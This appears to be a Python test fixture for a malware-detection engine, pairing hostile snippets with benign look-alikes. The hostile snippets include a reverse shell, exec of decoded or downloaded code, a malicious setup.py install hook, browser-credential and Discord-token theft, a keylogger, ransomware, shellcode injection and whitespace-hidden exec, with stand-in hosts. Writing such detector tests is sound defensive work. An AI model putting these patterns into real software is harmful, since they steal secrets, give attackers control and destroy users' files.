# ruff: noqa: E501 -- a line of a script is one line here, too
import base64
import zlib

from tests.engine.script_texts import pair, whole

PACKED = base64.b64encode(zlib.compress(whole("print('hello')"))).decode()

CASES = {
    "python.reverse_shell": pair(
        "a.py",
        'import socket,os,pty\ns=socket.so¦cket()\ns.con¦nect(("192.0.2.1",4444))\nos.du¦p2(s.fileno(),0)\npty.spa¦wn("/bin/sh")\n',
        'import socket\ns=socket.socket()\ns.connect(("example.com",80))\nprint(s.recv(10))\n',
    ),
    "python.exec_decoded": pair(
        "a.py",
        f"import base64, zlib\nex¦ec(zlib.decom¦press(base64.b64de¦code('{PACKED}')))\n",
        f"import base64, zlib\nprint(zlib.decompress(base64.b64decode('{PACKED}')))\n",
    ),
    "python.marshal_run": pair(
        "a.py", "import marshal\nex¦ec(mar¦shal.loads(b'\\xe3\\x00'))\n", "import marshal\ndata = marshal.dumps([1])\n"
    ),
    "python.browser_theft": pair(
        "a.py",
        'import requests\npath = base + "\\\\Login Da¦ta"\nstate = base + "\\\\Local St¦ate"\nkey = win32crypt.CryptUnprotect¦Data(k)[1]\nrequests.post(url, data=rows)\n',
        'import requests\nrequests.post(url, data={"login": "data"})\n',
    ),
    "python.token_theft": pair(
        "a.py",
        'import re, requests\np = roaming + "\\\\discord\\\\Local Storage\\\\level¦db"\nt = re.findall(r"[\\w-]{2¦4}\\.[\\w-]{6}\\.[\\w-]{27}", s)\nrequests.post(webhook, json=t)\n',
        'import requests\np = "discord"\nrequests.post(url, json={"content": "done"})\n',
    ),
    "python.install_hook": pair(
        "setup.py",
        "from setuptools import setup\nimport requests\nex¦ec(requests.ge¦t('https://example.com/a').text)\nsetup(name='x')\n",
        "from setuptools import setup\nsetup(name='x', version='1')\n",
    ),
    "python.keylogger": pair(
        "a.py",
        "from pynput import keyboard\nimport smtplib\nwith keyboard.Lis¦tener(on_press=f) as l:\n    l.join()\nsmtplib.SMTP('example.com').sendmail(a, b, log)\n",
        "import keyboard_layout\nprint(keyboard_layout.names())\n",
    ),
    "python.ransom": pair(
        "a.py",
        "import os\nfrom cryptography.fernet import Fernet\nfor r, d, fs in os.walk('/home'):\n    for f in fs:\n        open(f, 'wb').write(Fer¦net(k).encrypt(x))\n"
        "        os.remove(f)\nnote = 'Your files have been encry¦pted. Send bitcoin.'\n",
        "from cryptography.fernet import Fernet\nprint(Fernet(Fernet.generate_key()).encrypt(b'hello'))\n",
    ),
    "python.shellcode": pair(
        "a.py",
        "import ctypes\np = ctypes.windll.kernel32.Virtual¦Alloc(0, 9, 0x3000, 0x40)\nctypes.windll.kernel32.Rtl¦MoveMemory(p, b, 9)\nctypes.windll.kernel32.Create¦Thread(0, 0, p, 0, 0, 0)\n",
        "import ctypes\nprint(ctypes.windll.kernel32.GetTickCount())\n",
    ),
    "python.run_downloaded": pair(
        "a.py",
        "import requests\nex¦ec(requests.ge¦t('https://example.com/a').text)\n",
        "import requests\nprint(requests.get('https://example.com/a').text)\n",
    ),
    "python.hidden_far_right": pair(
        "a.py", f"import os;{' ' * 200}ex¦ec(data)\n", f"x = 1{' ' * 200}# a note at the right\n"
    ),
    "python.downloads_program": pair(
        "a.py",
        "import urllib.request, os\nurllib.request.urlret¦rieve('https://example.com/a.exe', 'a.exe')\nos.start¦file('a.exe')\n",
        "import urllib.request\nurllib.request.urlretrieve('https://example.com/a.csv', 'a.csv')\n",
    ),
}
